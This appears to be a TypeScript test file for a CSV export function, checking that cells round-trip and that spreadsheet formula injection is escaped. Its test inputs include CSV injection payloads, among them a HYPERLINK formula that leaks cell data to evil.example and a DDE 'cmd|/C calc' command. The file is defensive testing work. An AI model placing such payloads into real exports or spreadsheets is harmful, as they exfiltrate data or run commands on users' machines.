import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, csvText } from '../../../src/activity-page/csv.ts';
import { keptItem, runEntry } from './entries.ts';

/** A reader as RFC 4180 describes the format. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row: string[] = [];
  for (let match = cell.exec(text); match !== null; match = cell.exec(text)) {
    const [, quoted, plain = '', end] = match;
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  expect(rows.flat().length).toBeGreaterThan(0);
  return rows;
}

describe('CSV', () => {
  test('gives back what went in but for apostrophes, whatever stands in it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const [[read = ''] = []] = readCsv(`${csvCell(text)},\r\n`);
        expect(read.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
      }),
    );
  });

  test.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1',
    '-1+cmd',
    '@SUM(A1)',
    '\t1',
    '\r1',
    ' =1',
    '|calc',
    '%0A',
  ])('makes no formula of %j', (text) => {
    expect(readCsv(`${csvCell(text)},\r\n`)[0]?.[0]).toBe(`'${text}`);
  });

  test.each([
    "a;=cmd|'/C calc'!A0",
    'a; =1',
    'a;"=1;b',
    ';;=1;=2',
    '\t=1',
    'a\t=1',
    'a\n=1',
    '\r\n=1',
    'a;\n\t =1',
  ])('makes no formula of %j where it is split at another sign', (text) => {
    // Cells before and after it have quotes of their own, or none.
    for (const row of [csvCell(text), `x,${csvCell(text)},"y"`, `"x",${csvCell(text)}`]) {
      const parts = row.split(/[;\t\r\n]/).map((part) => part.replace(/^["\s]+/, ''));
      expect(parts.filter((part) => part.startsWith('='))).toEqual([]);
    }
    const [[read = ''] = []] = readCsv(`${csvCell(text)},\r\n`);
    expect(read.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  test('has one row an item, of as many cells as there are columns', () => {
    const runs = new Map([['run-1', runEntry({ startedAt: 0 })]]);
    const failure = { code: 'field_rejected' as const, details: ['6063--lesson', 'no'] };
    const times = { tracker: 5, content: 6, waiting: 7 };
    const hostile = '=1+1,"x"\r\n';
    const items = [
      keptItem({ at: 0, text: 'see SUP-7', outcome: 'failed', failure, times }),
      keptItem({
        runId: 'gone',
        text: hostile,
        issueKey: null,
        resource: null,
        changes: [
          { field: 'f', from: { a: 1 }, to: hostile },
          { field: 'g', from: null, to: 5 },
        ],
      }),
    ];
    const text = csvText(items, runs, true);
    expect(text.startsWith('\u{FEFF}')).toBe(true);
    const [head = [], ...rows] = readCsv(text.slice(1));
    expect(rows.map(({ length }) => length)).toEqual([head.length, head.length]);
    const [first, second] = rows.map((row) =>
      Object.fromEntries(head.map((name, at) => [name, row[at]])),
    );
    expect(first).toEqual({
      time: '1970-01-01T00:00:00.000Z',
      run: 'run-1',
      run_started: '1970-01-01T00:00:00.000Z',
      cause: 'click',
      checklist_issue: 'SUP-1',
      item: 'see SUP-7',
      issue: 'SUP-7',
      outcome: 'failed',
      code: 'field_rejected',
      details: '6063--lesson; no',
      resource: 'lesson 9f0c',
      link: 'https://learn.example/lessons/9f0c',
      changes: '6063--lesson: Old name → Циклы',
      requests: '0',
      ms_tracker: '5',
      ms_content: '6',
      ms_waiting: '7',
    });
    expect(second).toMatchObject({
      run_started: '',
      cause: '',
      item: `'${hostile}`,
      issue: '',
      code: '',
      resource: '',
      changes: `f: {"a":1} → ${hostile}\ng:  → 5`,
      ms_waiting: '',
    });
    expect(csvText(items, runs, false)).toBe(text.slice(text.indexOf('\r\n') + 2));
  });
});
